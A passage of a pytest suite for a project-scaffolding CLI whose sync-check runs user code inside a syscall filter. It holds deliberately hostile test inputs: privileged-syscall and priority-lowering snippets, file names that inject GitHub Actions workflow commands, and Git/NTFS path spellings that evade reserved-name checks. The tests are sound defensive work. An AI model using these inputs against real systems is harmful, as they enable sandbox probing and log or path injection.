    extra.write_text('from typing import Literal\n\nStatus = Literal["todo", "done"]\n')
    both(
        repo,
        "models.py",
        lambda text: text.replace(
            "from pydantic import BaseModel, ConfigDict, Field\n",
            "from pydantic import BaseModel, ConfigDict, Field\n\nfrom .extra import Status\n",
        ).replace('status: Literal["todo", "done"] = "todo"', 'status: Status = "todo"'),
    )
    manifest = repo / "pyproject.toml"
    manifest.write_text(
        manifest.read_text().replace(
            '"pkg/orch/__init__.py"', '"pkg/orch/__init__.py", "pkg/orch/extra.py"'
        )
    )
    assert run("sync-check", "--root", repo, cwd=tmp_path).returncode == 0
    extra.write_text('from typing import Literal\n\nStatus = Literal["todo", "done", "gone"]\n')
    proc = run("sync-check", "--root", repo, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "gone" in proc.stdout


ROOT_POWERS = {
    "sets the host name": "import socket; socket.sethostname(socket.gethostname())",
    "reads the kernel's log": (
        "import ctypes\nbuf = ctypes.create_string_buffer(4096)\n"
        "if ctypes.CDLL(None, use_errno=True).klogctl(3, buf, 4096) < 0:\n"
        "    raise PermissionError('errno %d' % ctypes.get_errno())\n"
    ),
    "watches the file system": (
        "import ctypes\n"
        "if ctypes.CDLL(None, use_errno=True).fanotify_init(0, 0) < 0:\n"
        "    raise PermissionError('errno %d' % ctypes.get_errno())\n"
    ),
    "loads a BPF program": (
        "import ctypes\nattr = ctypes.create_string_buffer(128)\n"
        "if ctypes.CDLL(None, use_errno=True).syscall({bpf}, 5, attr, 128) < 0:\n"
        "    raise PermissionError('errno %d' % ctypes.get_errno())\n"
    ),
}


@pytest.mark.skipif(not SECCOMP, reason="the system call filter is for x86_64 and aarch64 Linux")
@pytest.mark.parametrize("attack", sorted(ROOT_POWERS))
def test_what_root_could_do_beyond_files_is_refused(
    repo: Path, tmp_path: Path, attack: str
) -> None:
    bpf = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
    assert_the_filter_refuses(repo, tmp_path, ROOT_POWERS[attack].format(bpf=bpf))


def assert_the_filter_refuses(repo: Path, tmp_path: Path, code: str) -> None:
    """The models module running ``code`` ends the check with the filter's refusal."""
    both(repo, "models.py", lambda text: text + code + "\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "PermissionError")
    # EACCES (13) is the filter's answer; a user without the capability would get EPERM (1).
    assert "13" in proc.stderr.rsplit("PermissionError", 1)[1], proc.stderr


_SLOWS = (  # errno 13 from the call itself: EACCES; the check is the child's parent
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "if {call} < 0: raise PermissionError('errno %d' % ctypes.get_errno())\n"
)
SLOWING_ATTACKS = {
    "lowers the check's priority": "import os; os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)",
    "lowers its own priority": "import os; os.setpriority(os.PRIO_PROCESS, 0, 1)",
    # IOPRIO_WHO_PROCESS, IOPRIO_CLASS_IDLE << 13
    "idles the check's I/O": _SLOWS.format(
        call="libc.syscall({ioprio_set}, 1, os.getppid(), 3 << 13)"
    ),
    "schedules the check when idle": (
        "import os; os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))"
    ),
    "pins the check to one CPU": "import os; os.sched_setaffinity(os.getppid(), {{0}})",
}


@pytest.mark.skipif(not SECCOMP, reason="the system call filter is for x86_64 and aarch64 Linux")
@pytest.mark.parametrize("attack", sorted(SLOWING_ATTACKS))
def test_the_models_module_cannot_slow_the_check_down(
    repo: Path, tmp_path: Path, attack: str
) -> None:
    """What the user may do to any of their processes: nice, I/O class, CPU policy and set."""
    ioprio_set = {"x86_64": 251, "aarch64": 30}[os.uname().machine]
    assert_the_filter_refuses(repo, tmp_path, SLOWING_ATTACKS[attack].format(ioprio_set=ioprio_set))


def test_the_models_module_holds_at_most_256_open_files(repo: Path, tmp_path: Path) -> None:
    """Each pipe, socket or memfd holds kernel memory outside the 4 GiB address space: 1,500
    pipes of 1 MiB held 1.2 GiB more, as many as the check's own limit allowed."""
    both(
        repo,
        "models.py",
        lambda text: text + "import os\npipes = [os.pipe() for _ in range(200)]\n",
    )
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "Too many open files")


def test_a_read_only_tmp_does_not_fail_a_clean_models_module(repo: Path, tmp_path: Path) -> None:
    """The child kept the module's output in a file under /tmp: with /tmp and /var/tmp full or
    read-only, a clean module "ended its process" (No usable temporary directory)."""
    if not _can_mount_read_only(tmp_path):
        pytest.skip("needs root and a mount namespace of its own (unshare)")
    read_only = "mount --bind -o ro /tmp /tmp && mount --bind -o ro /var/tmp /var/tmp && "
    namespace = ["unshare", "--mount", "--propagation", "private"]
    proc = subprocess.run(
        [*namespace, "sh", "-c", read_only + 'exec "$@"', "sh", EXE, "sync-check", "--no-cache"],
        capture_output=True,
        text=True,
        check=False,
        cwd=repo,  # under the read-only /tmp too: no folder is left to write in
    )
    assert (proc.returncode, proc.stderr) == (0, "sync-check: 6 check(s): ok\n"), proc.stderr


# --- what earlier rounds noticed: reserved paths, caches, permissions, output of update -------


@pytest.mark.parametrize(
    "command",
    [("update", "--dry-run"), ("sync-check", "--root", ".", "--no-cache")],
    ids=["update-dry-run", "sync-check-no-cache"],
)
def test_a_dry_run_or_a_check_without_cache_writes_no_cache(
    project: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    (project / "README.md").write_text("edited\n")  # something to show
    cache = tmp_path / "cache"
    before = snapshot(project)
    proc = run(*command, cwd=project, env={"TAC_BOOTSTRAP_CACHE_DIR": str(cache)})
    assert proc.returncode in (0, 1), proc.stderr
    assert not cache.exists(), sorted(cache.rglob("*"))
    assert snapshot(project) == before


@pytest.mark.needs_unprivileged
@pytest.mark.parametrize(
    ("command", "target"),
    [
        (("sync-check", "--no-cache"), "templates/orch/hello.py.j2"),
        (("sync-check", "--no-cache", "--format", "github"), "templates/orch/plain.txt.j2"),
        (("sync",), "templates/orch/hello.py.j2"),
        (("sync", "--from", "base"), "templates/orch/plain.txt.j2"),
        (("sync-check", "--no-cache"), "templates/orch/models.py.j2"),
        (("sync-check", "--no-cache"), "pkg/orch/hello.py"),
        (("sync-check", "--no-cache"), "pkg/orch/models.py"),
        (("sync",), "pkg/orch/plain.txt"),
        (("sync", "--from", "base"), "pkg/orch/hello.py"),
        (("sync-check",), "templates/orch/hello.py.j2"),
    ],
)
def test_a_template_or_base_file_without_read_permission_is_named(
    tmp_path: Path, command: tuple[str, ...], target: str
) -> None:
    work = tmp_path / "work"
    root = work / "repo"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
    (root / ORCH / "plain.txt").write_text("edited\n")  # something for sync to write
    before = snapshot(root)
    (root / target).chmod(0)
    try:
        proc = run_unprivileged(*command, "--root", root, root=root, cwd=work)
    finally:
        (root / target).chmod(0o644)
    assert_one_error(proc, f"cannot read {target}: Permission denied")
    assert snapshot(root) == before


RESERVED_ENTRIES = {
    "git-config": ("base", ".git/config"),
    "git-upper": ("base", ".GIT/config"),
    "git-trailing-dot": ("base", ".git./config"),
    "git-hfs-ignorable": ("base", ".g\u200cit/config"),
    "git-ntfs-stream": ("base", ".git::$INDEX_ALLOCATION/config"),
    "git-short-name": ("base", "GIT~1/config"),
    "git-nested": ("base", "pkg/.git/hooks/pre-commit"),
    "answers": ("base", ".tac-bootstrap.json"),
    "answers-long-s": ("base", ".tac-boot\u017ftrap.json"),
    "backups": ("base", ".Tac-Bootstrap/backup/0.1.0-0.2.0/README.md"),
    "git-link": ("base", "hooks/pre-commit"),
    "template-git": ("template", ".git/config"),
    "template-answers": ("template", ".tac-bootstrap.json"),
}


@pytest.mark.parametrize("case", sorted(RESERVED_ENTRIES))
@pytest.mark.parametrize(
    "command", [("sync-check", "--no-cache"), ("sync",), ("sync", "--from", "base")]
)
def test_a_manifest_naming_git_or_update_files_is_refused(
    repo: Path, tmp_path: Path, case: str, command: tuple[str, ...]
) -> None:
    key, entry = RESERVED_ENTRIES[case]
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n")
    (repo / "hooks").symlink_to(".git/hooks")
    (repo / ".tac-bootstrap.json").write_text("{}\n")
    manifest = repo / "pyproject.toml"
    text = manifest.read_text()
    if key == "base":
        text = text.replace('base = "pkg/orch/plain.txt"', f"base = {json.dumps(entry)}")
    else:  # the templates folder is the root: a template name is a path of the root
        text = text.replace('templates = "templates"', 'templates = "."').replace(
            'template = "orch/plain.txt.j2"', f"template = {json.dumps(entry)}"
        )
    manifest.write_text(text)
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "pyproject.toml", f"pairs[5] {key}", repr(entry))
    assert snapshot(repo) == before


@pytest.mark.parametrize("git", ["link", "gitdir file"])
@pytest.mark.parametrize(
    "command", [("sync-check", "--no-cache"), ("sync",), ("sync", "--from", "base")]
)
def test_a_manifest_naming_the_folder_git_points_to_is_refused(
    repo: Path, tmp_path: Path, git: str, command: tuple[str, ...]
) -> None:
    """``.git -> realgit``: ``realgit/hooks/pre-commit`` is git's hook, whatever its name."""
    (repo / "realgit" / "hooks").mkdir(parents=True)
    if git == "link":
        (repo / ".git").symlink_to("realgit")
    else:  # as a worktree or a submodule has
        (repo / ".git").write_text("gitdir: realgit\n")
    manifest = repo / "pyproject.toml"
    entry = "realgit/hooks/pre-commit"
    manifest.write_text(
        manifest.read_text().replace('base = "pkg/orch/plain.txt"', f'base = "{entry}"')
    )
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "pyproject.toml", "pairs[5] base", repr(entry), "(.git leads there)")
    assert snapshot(repo) == before


@pytest.mark.parametrize(
    "gitdir",
    ["gitdir: .\n", "gitdir: \n", "gitdir: /\n", "gitdir: ./\r\n"],
    ids=["dot", "empty", "slash", "dot-crlf"],
)
@pytest.mark.parametrize("command", [("update",), ("update", "--format", "json")])
def test_a_git_file_naming_the_root_or_above_is_said_to_be_no_usable_link(
    project: Path, gitdir: str, command: tuple[str, ...]
) -> None:
    """Every delete was refused as "under a git folder .git/ (.git leads there)"."""
    (project / "docs").mkdir()
    (project / "docs" / "old.md").write_text("old doc\n")  # recorded, unedited: update deletes it
    digest = hashlib.sha256(b"old doc\n").hexdigest()
    edit_answers(project, lambda a: a["files"].update({"docs/old.md": digest}))  # type: ignore[attr-defined]
    (project / ".git").write_bytes(gitdir.encode())
    before = snapshot(project)
    proc = run(*command, cwd=project)
    if "json" in command:
        assert proc.returncode == 2, proc.stderr
        answer = json.loads(proc.stdout)
        assert answer["ok"] is False
        assert "not a usable git link" in answer["error"], answer
    else:
        assert_one_error(proc, f"{project.resolve() / '.git'} is not a usable git link")
    assert snapshot(project) == before


@pytest.mark.parametrize("kind", ["folder", "fifo"])
def test_a_tracked_file_turned_into_a_folder_or_a_fifo_is_the_same_note(
    project: Path, kind: str
) -> None:
    """A folder was a note ("missing"), a FIFO exit 2 ("cannot read LICENSE")."""
    (project / "LICENSE").unlink()
    if kind == "folder":
        (project / "LICENSE").mkdir()
    else:
        os.mkfifo(project / "LICENSE")
    note = (
        "LICENSE: note: not-a-file: a folder, where .tac-bootstrap.json records a generated file: "
        "`tac-bootstrap update` refuses to run on it; move the folder away, or remove its record "
        "from .tac-bootstrap.json if no file belongs there\n"
        if kind == "folder"
        else "LICENSE: note: not-a-file: not a regular file (a folder, a FIFO, a device) where a "
        "file was generated: `tac-bootstrap update` refuses to run until it is moved away\n"
    )
    proc = run("sync-check", "--no-cache", cwd=project)
    assert (proc.returncode, proc.stdout, proc.stderr) == (
        0,
        note,
        "sync-check: 9 check(s): ok, 1 note(s) (--strict fails on them)\n",
    )
    assert run("sync-check", "--no-cache", "--strict", cwd=project).returncode == 1


@pytest.mark.parametrize("recorded", ["src", "LICENSE"], ids=["hand-made", "turned-into"])
def test_a_recorded_file_that_is_a_folder_is_said_alike_by_update_and_sync_check(
    project: Path, recorded: str
) -> None:
    """update said "src is not a regular file (a folder or a link); move it away first" (the
    project's code), sync-check "not a regular file (a folder, a FIFO, a device)"."""
    if recorded == "LICENSE":
        (project / "LICENSE").unlink()
        (project / "LICENSE").mkdir()
    else:
        edit_answers(project, lambda a: a["files"].update(src="0" * 64))  # type: ignore[attr-defined]
    before = snapshot(project)
    said = (
        "a folder, where .tac-bootstrap.json records a generated file",
        "move the folder away, "
        "or remove its record from .tac-bootstrap.json if no file belongs there",
    )
    proc = run("update", cwd=project)
    assert (proc.returncode, proc.stdout, proc.stderr) == (
        2,
        "",
        f"error: {recorded} is {said[0]}: {said[1]}\n",
    )
    check = run("sync-check", "--no-cache", cwd=project)
    assert check.returncode == 0, check.stderr
    assert check.stdout == (
        f"{recorded}: note: not-a-file: {said[0]}: `tac-bootstrap update` refuses to run on it; "
        f"{said[1]}\n"
    )
    assert snapshot(project) == before


@pytest.mark.parametrize(
    ("table", "value", "shown"),
    [
        ("files", 12, "the sha256 of 'README.md' is 12, not a string of 64 hex digits"),
        ("files", None, "the sha256 of 'README.md' is null, not a string of 64 hex digits"),
        ("data", ["x"], "the value of 'author' is [\"x\"], not a string"),
    ],
    ids=["int-sha", "null-sha", "list-data"],
)
@pytest.mark.parametrize(
    "command", [["update"], ["sync-check", "--no-cache"]], ids=["update", "check"]
)
def test_an_answers_value_of_the_wrong_type_is_named_by_its_key(
    project: Path, table: str, value: object, shown: str, command: list[str]
) -> None:
    """The whole table was shown, cut, and said "is not an object of strings"."""
    key = "README.md" if table == "files" else "author"
    edit_answers(project, lambda a: a[table].update({key: value}))  # type: ignore[attr-defined]
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert (proc.returncode, proc.stdout, proc.stderr) == (
        2,
        "",
        f"error: .tac-bootstrap.json is not a valid answers file: {table}: {shown}\n",
    )
    assert snapshot(project) == before


def test_github_annotations_of_a_name_that_is_not_utf8_are_utf8_and_forge_nothing(
    repo: Path, tmp_path: Path
) -> None:
    folder = os.fsencode(repo / ORCH)
    with open(folder + b"/\xff\n::warning::forged\xfe%0A::error::x.py", "w") as file:  # noqa: PTH123
        file.write("orphan\n")
    proc = subprocess.run(
        [EXE, "sync-check", "--no-cache", "--format", "github", "--root", repo],
        capture_output=True,
        check=False,
        cwd=tmp_path,
        env={**os.environ, "GITHUB_ACTIONS": "true"},
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr
    text = proc.stdout.decode("utf-8")  # valid UTF-8: no raw byte of the name
    [line] = text.splitlines()
    assert line.startswith("::error file=pkg/orch/\\xff%0A%3A%3Awarning%3A%3Aforged\\xfe%250A")


def workflow_commands(output: str) -> list[str]:
    """Return the lines GitHub Actions would run as workflow commands, as its runner reads them."""
    found, stopped = [], None
    for line in output.splitlines():
        command = line.lstrip()
        if stopped is not None:
            stopped = None if command == f"::{stopped}::" else stopped
        elif command.startswith("::stop-commands::"):
            stopped = command.removeprefix("::stop-commands::")
        elif command.startswith("::"):
            found.append(command)
    return found


def test_update_output_of_project_paths_and_lines_runs_no_workflow_command(
    project: Path,
) -> None:
    readme = project / "README.md"
    # An edit kept by the merge: a context line of the diff.
    readme.write_text(readme.read_text().replace("\n", "\n::error::forged line\n", 1))

    def record(answers: dict[str, Any]) -> None:
        answers["files"]["::warning::forged name"] = "0" * 64  # edited: kept, needs you

    (project / "::warning::forged name").write_text("mine\n")
    edit_answers(project, record)
    env = {"GITHUB_ACTIONS": "true"}
    proc = run("update", "--dry-run", "-d", "description=Other.", cwd=project, env=env)
    assert proc.returncode == 1, proc.stderr
    assert " ::error::forged line" in proc.stdout.splitlines()
    assert "  ::warning::forged name: " in proc.stderr
    assert workflow_commands(proc.stdout) == []
    assert workflow_commands(proc.stderr) == []


@pytest.mark.needs_unprivileged
@pytest.mark.parametrize(
    "case", ["force-into-read-only", "new-in-read-only", "read-only-subfolder", "unsearchable"]
)
def test_init_into_a_folder_it_cannot_write_fails_alike_with_and_without_dry_run(
    tmp_path: Path, case: str
) -> None:
    work = tmp_path / "work"
    out = work / "out"
    locked = out
    args: list[str | Path] = ["init", "my-app", "-o", out, "--force"]
    if case == "force-into-read-only":
        out.mkdir(parents=True)
        (out / "keep.txt").write_text("mine\n")
    elif case == "new-in-read-only":
        out.mkdir(parents=True)
        args[3] = out / "new"
    else:  # a generated project whose src/my_app/ (src/) cannot be written (entered)
        assert run("init", "my-app", "-o", out, cwd=tmp_path).returncode == 0
        (out / "README.md").write_text("edited\n")
        (out / "src" / "my_app" / "__init__.py").write_text("edited\n")
        locked = out / "src" / "my_app"
    # Without x, src/ cannot be entered: what is in it cannot even be looked at.
    mode, message = (0o600, "cannot read ") if case == "unsearchable" else (0o555, "cannot write ")
    if case == "unsearchable":
        locked = out / "src"
    before = snapshot(work)
    errors = []
    for dry_run in ([], ["--dry-run"]):
        locked.chmod(mode)
        try:
            proc = run_unprivileged(*args, *dry_run, root=out, cwd=work)
        finally:
            locked.chmod(0o755)
        named = locked if mode == 0o555 else f"{locked}/my_app/__init__.py"
        assert_one_error(proc, f"{message}{named}: Permission denied")
        assert snapshot(work) == before
        errors.append(proc.stderr)
    assert errors[0] == errors[1]


@pytest.mark.needs_unprivileged
@pytest.mark.parametrize("locked", [".", ".tac-bootstrap"])
def test_update_stopped_by_a_permission_writes_nothing(tmp_path: Path, locked: str) -> None:
    work = tmp_path / "work"
    assert run("init", "my-app", "-o", work / "my-app", cwd=tmp_path).returncode == 0
    project = work / "my-app"
    (project / ".tac-bootstrap").mkdir()  # where backups go: writable unless locked
    (project / "README.md").write_text("edited\n")  # merged: backed up, then rewritten
    before = snapshot(work)
    errors = []
    for dry_run in (["--dry-run"], []):
        (project / locked).chmod(0o555)
        try:
            proc = run_unprivileged(
                "update",
                "--root",
                project,
                "-d",
                "description=Other.",
                *dry_run,
                root=project,
                cwd=work,
            )
        finally:
            (project / locked).chmod(0o755)
        assert_one_error(proc, "cannot write ", "Permission denied")
        assert snapshot(work) == before
        errors.append(proc.stderr)
    assert errors[0] == errors[1]


def _long_path(size: int, name: int) -> str:
    """Return a relative path of ``size`` bytes whose file name is ``name`` bytes."""
    parts = []
    size -= name
    while size > 0:
        part = min(size, 100)
        parts.append("d" * (part - 1))
        size -= part
    return "/".join([*parts, "f" * name])


@pytest.mark.parametrize(
    ("size", "name"),
    [(1013, 13), (1023, 23), (800, 20), (300, 250)],
    ids=["1013-bytes", "1023-bytes", "800-bytes", "name-of-250-bytes"],
)
@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_a_recorded_path_too_long_for_update_to_back_up_is_refused_up_front(
    project: Path, size: int, name: int, command: tuple[str, ...]
) -> None:
    rel = _long_path(size, name)
    assert len(rel.encode()) == size
    path = project / rel
    path.parent.mkdir(parents=True)
    path.write_text("generated\n")  # unedited and no longer generated: backed up, deleted
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    edit_answers(project, lambda a: a["files"].update({rel: digest}))  # type: ignore[attr-defined]
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, ".tac-bootstrap.json", f"files: '{rel[:40]}", "too long for update")
    assert snapshot(project) == before


@pytest.mark.parametrize(
    "where", ["statuses.json", "__pycache__/statuses.json", "vendor/.git/statuses.json"]
)
def test_the_cached_agreement_sees_a_change_to_a_data_file_the_models_read(
    repo: Path, tmp_path: Path, where: str
) -> None:
    """Wherever in the models' folder the confined child can read it, a change is seen."""
    data = repo / ORCH / where
    data.parent.mkdir(parents=True, exist_ok=True)
    data.write_text('["todo", "done"]\n')
    both(
        repo,
        "models.py",
        lambda text: text.replace(
            "from pydantic import BaseModel, ConfigDict, Field\n",
            "from pydantic import BaseModel, ConfigDict, Field\n\n"
            "import json as _json\nfrom pathlib import Path as _Path\n\n"
            f"_DATA = _Path(__file__).parent / {where!r}\n"
            "STATUSES = tuple(_json.loads(_DATA.read_text()))\n",
        ).replace('status: Literal["todo", "done"] = "todo"', 'status: Literal[STATUSES] = "todo"'),
    )
    if where == "statuses.json":  # a file of the repository: listed as unpaired
        manifest = repo / "pyproject.toml"
        manifest.write_text(
            manifest.read_text().replace(
                '"pkg/orch/__init__.py"', '"pkg/orch/__init__.py", "pkg/orch/statuses.json"'
            )
        )
    proc = run("sync-check", "--root", repo, cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    data.write_text('["todo", "done", "gone"]\n')
    proc = run("sync-check", "--root", repo, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "gone" in proc.stdout


@pytest.mark.parametrize("entry", ["schema", "diagram", "migrations_postgres"])
@pytest.mark.parametrize(
    "command",
    [("sync-check", "--no-cache"), ("sync-check",), ("sync",)],
    ids=["check", "cached-check", "sync"],
)
def test_a_symlink_loop_in_the_agreement_is_named_not_a_traceback(
    pg_repo: Path, tmp_path: Path, entry: str, command: tuple[str, ...]
) -> None:
    manifest = pg_repo / "pyproject.toml"
    if entry == "migrations_postgres":
        folder = pg_repo / "pkg" / "migrations_postgres"
        shutil.rmtree(folder)
        folder.symlink_to("migrations_postgres")
    else:
        (pg_repo / "loop").symlink_to("loop")
        text = manifest.read_text()
        schema = f'schema = "pkg/{PG_FILES[1]}"'
        assert schema in text
        text = text.replace(schema, 'schema = "loop"') if entry == "schema" else text
        manifest.write_text(text + ('diagram = "loop"\n' if entry == "diagram" else ""))
    before = snapshot(pg_repo)
    proc = run(*command, "--root", pg_repo, cwd=tmp_path)
    assert "Traceback" not in proc.stderr, proc.stderr
    if proc.returncode == 2:
        assert_one_error(proc, "loop" if entry != "migrations_postgres" else entry)
    elif command[0] == "sync-check":
        assert proc.returncode == 1, (proc.stdout, proc.stderr)
        assert ("loop" if entry != "migrations_postgres" else "not a folder") in proc.stdout
    else:  # sync reads the schema only to draw the diagram
        assert proc.returncode == (1 if entry == "diagram" else 0), (proc.stdout, proc.stderr)
    assert snapshot(pg_repo) == before


@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (lambda p: p.mkdir(), "a folder"),
        (os.mkfifo, "a FIFO"),
        (lambda p: p.symlink_to(p.name), "a symlink that leads nowhere or loops"),
    ],
    ids=["folder", "fifo", "loop"],
)
def test_a_base_that_is_not_a_file_is_named_for_what_it_is(
    repo: Path, tmp_path: Path, make: Callable[[Path], None], kind: str
) -> None:
    base = repo / ORCH / "plain.txt"
    base.unlink()
    make(base)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"pkg/orch/plain.txt is not a regular file ({kind})")


def _link_chain(first: Path, target: Path, links: int) -> None:
    """Make ``first`` a chain of ``links`` symlinks (``first`` included) ending at ``target``."""
    previous = target
    for hop in range(links - 1):
        link = target.with_name(f"hop{hop:02d}")
        link.symlink_to(previous)
        previous = link
    first.symlink_to(previous)


def _kernel_refuses(base: Path, form: str) -> None:
    real = base.parent.parent / "real.txt"
    real.write_bytes(base.read_bytes())
    base.unlink()
    if form == "trailing-slash":
        base.symlink_to(f"{real}/")  # ENOTDIR: the file is named as a folder
    elif form == "file-dotdot":
        base.symlink_to(f"../__init__.py/../{real.name}")
    else:
        _link_chain(base, real, 41 if form == "41-links" else 40)  # the system follows 40


@pytest.mark.parametrize("form", ["trailing-slash", "file-dotdot", "41-links", "40-links"])
@pytest.mark.parametrize(
    "command",
    [("sync-check", "--no-cache"), ("sync",), ("sync", "--from", "base")],
    ids=["check", "sync", "from-base"],
)
def test_a_link_the_system_does_not_open_is_not_read_through(
    repo: Path, tmp_path: Path, form: str, command: tuple[str, ...]
) -> None:
    base = repo / ORCH / "plain.txt"
    _kernel_refuses(base, form)
    assert os.path.lexists(base)
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    if form == "40-links":  # what the system opens is checked and written through as before
        assert base.read_bytes() == (repo / "pkg" / "real.txt").read_bytes()
        assert proc.returncode == 0, (proc.stdout, proc.stderr)
    else:
        with pytest.raises(OSError, match=r"Not a directory|Too many levels of symbolic links"):
            base.read_bytes()
        assert_one_error(proc, "cannot read pkg/orch/plain.txt")
    assert snapshot(repo) == before


@pytest.mark.parametrize("entry", ["base", "template", "base-link"])
@pytest.mark.parametrize(
    "command",
    [("sync",), ("sync", "--from", "base"), ("sync-check", "--no-cache")],
    ids=["sync", "from-base", "check"],
)
def test_the_manifest_is_no_base_or_template(
    repo: Path, tmp_path: Path, entry: str, command: tuple[str, ...]
) -> None:
    manifest = repo / "pyproject.toml"
    text = manifest.read_text()
    if entry == "template":  # the templates folder is the root, the template the manifest
        text = text.replace('templates = "templates"', 'templates = "."')
        text = text.replace('template = "orch/', 'template = "templates/orch/')
        text = text.replace('template_globs = ["orch/', 'template_globs = ["templates/orch/')
        text = text.replace('"templates/orch/plain.txt.j2"', '"pyproject.toml"')
    else:
        if entry == "base-link":
            (repo / "pkg" / "manifest.toml").symlink_to("../pyproject.toml")
        name = "pyproject.toml" if entry == "base" else "pkg/manifest.toml"
        text = text.replace('base = "pkg/orch/plain.txt"', f'base = "{name}"')
    manifest.write_text(text)
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "is the manifest itself: refusing to write there")
    assert snapshot(repo) == before


def _lock(path: Path) -> Callable[[], None]:
    """chattr +i the file (skip where that cannot be done); return what lifts it again."""
    if shutil.which("chattr") is None:
        pytest.skip("no chattr")
    done = subprocess.run(["chattr", "+i", str(path)], capture_output=True, check=False)
    if done.returncode != 0:
        pytest.skip(f"chattr +i not allowed here: {done.stderr.decode().strip()}")

    def lift() -> None:
        subprocess.run(["chattr", "-i", str(path)], check=True)

    return lift


@pytest.mark.parametrize(
    "case",
    [
        "grandparent-a-file",
        pytest.param("read-only", marks=pytest.mark.needs_unprivileged),
        "immutable",
    ],
)
def test_sync_dry_run_refuses_what_sync_refuses(repo: Path, tmp_path: Path, case: str) -> None:
    """The dry run said "would change 5 file(s)" (exit 0) where sync then refused (exit 2)."""
    lift: Callable[[], None] = lambda: None  # noqa: E731
    if case == "grandparent-a-file":
        shutil.rmtree(repo / "pkg")
        (repo / "pkg").write_text("a file, not a folder\n")
    else:
        (repo / ORCH / "plain.txt").write_text("edited\n")
        (repo / ORCH / "schema.sql").write_text("-- edited\n")
    before = snapshot(repo)
    if case == "read-only":
        (repo / ORCH).chmod(0o555)
        lift = lambda: (repo / ORCH).chmod(0o755)  # noqa: E731
    elif case == "immutable":
        lift = _lock(repo / ORCH / "schema.sql")
    try:
        procs = [
            run_unprivileged("sync", *dry, "--root", repo, root=repo, cwd=tmp_path)
            if case == "read-only"
            else run("sync", *dry, "--root", repo, cwd=tmp_path)
            for dry in ([], ["--dry-run"])
        ]
    finally:
        lift()
    assert_one_error(procs[0], "pkg/orch/")
    assert (procs[1].returncode, procs[1].stdout, procs[1].stderr) == (2, "", procs[0].stderr)
    assert snapshot(repo) == before
    no_tmp_left(repo)


@pytest.mark.parametrize(
    "name",
    [
        "PyProject.toml",
        "pyproject.toml.",
        "pyproject.toml ",
        "PYPROJ~1.TOM",
        "pyproject.toml::$DATA",
        "pyproj\u200cect.toml",
        "lnk/PYPROJECT.TOML",
    ],
)
@pytest.mark.parametrize("command", [("sync",), ("sync-check", "--no-cache")])
def test_another_spelling_of_the_manifest_is_no_base(
    repo: Path, tmp_path: Path, name: str, command: tuple[str, ...]
) -> None:
    # On macOS or Windows the name is pyproject.toml's: sync wrote over the manifest there.
    (repo / "lnk").symlink_to(".")
    manifest = repo / "pyproject.toml"
    manifest.write_text(
        manifest.read_text().replace('base = "pkg/orch/plain.txt"', f'base = "{name}"')
    )
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, repr(name), "is the manifest itself: refusing to write there")
    assert snapshot(repo) == before


def _files_limited_to(limit: int) -> Callable[[], None]:
    def limit_writes() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return limit_writes


@pytest.mark.parametrize(
    ("limit", "where"),
    [
        (1_000, ".tac-bootstrap/backup/"),  # a backup: nothing of the project changed
        (2_200, "pyproject.toml: File too large: the update stopped with 1 of its 3 file(s)"),
        (3_100, ".tac-bootstrap.json: File too large: the update stopped with 2 of its 3 file(s)"),
    ],
    ids=["backup", "second-file", "answers"],
)
def test_an_update_stopped_by_a_full_disk_says_so_and_a_run_again_finishes_it(
    tmp_path: Path, limit: int, where: str
) -> None:
    # It said only `error: cannot write LICENSE: File too large`, not what state the project
    # was in. LICENSE (1,065 bytes) is written before pyproject.toml (2,120 bytes, 2,300 after).
    run("init", "p", "--with-orchestrator", cwd=tmp_path)
    done, stopped = tmp_path / "p", tmp_path / "stopped"
    shutil.copytree(done, stopped)
    args = ("update", "-d", "author=" + "A" * 190)
    assert run(*args, cwd=done).returncode == 0
    proc = run(*args, cwd=stopped, preexec_fn=_files_limited_to(limit))
    assert_one_error(proc, where, "run the same update again: it continues where it stopped")
    again = run(*args, cwd=stopped)
    assert again.returncode == 0, again.stderr

    def project(root: Path) -> dict[str, tuple[bytes | None, int]]:
        return {k: v for k, v in snapshot(root).items() if not k.startswith(".tac-bootstrap/")}

    assert project(stopped) == project(done)
